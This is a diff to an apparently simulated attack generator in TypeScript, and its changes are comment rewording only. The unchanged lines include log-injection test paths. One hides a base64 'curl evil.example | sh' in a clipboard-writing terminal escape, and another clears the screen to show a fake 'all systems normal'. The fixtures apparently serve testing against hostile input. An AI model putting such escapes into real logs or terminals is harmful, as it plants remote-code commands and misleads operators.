@@ -2,7 +2,7 @@ import { type Random, weighted } from "../random.ts"
 import type { Client } from "./clients.ts"
 import { addressAt, placeOfServers } from "./places.ts"
 
-/** A request nobody honest sends. The path may hold bytes that are no UTF-8. */
+/** A malicious request. The path may hold invalid UTF-8. */
 export interface Attack {
   readonly method: string
   readonly path: string | Buffer
@@ -33,7 +33,7 @@ const SCANNERS = [
   "",
 ]
 
-/** Paths that attack whoever reads the log, or whatever draws it. */
+/** Paths that attack the reader of the log, or the program that draws it. */
 const HOSTILE_PATHS: readonly (string | Buffer)[] = [
   "/v1/me\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
   "/v1/\u001b[2J\u001b[H\u001b[31mall systems normal\u001b[0m",
@@ -72,7 +72,7 @@ const scanners = (random: Random) =>
     return { ...where, tor, agent: random.pick(SCANNERS), weight: random.logNormal(1, 1) }
   })
 
-/** Scanners at work, and now and then somebody who aims at the reader of the log. */
+/** Creates scanners and, occasionally, attackers of the log's reader. */
 export function createAttacks(random: Random): (random: Random) => Attack {
   const pick = weighted(scanners(random))
   return random => {
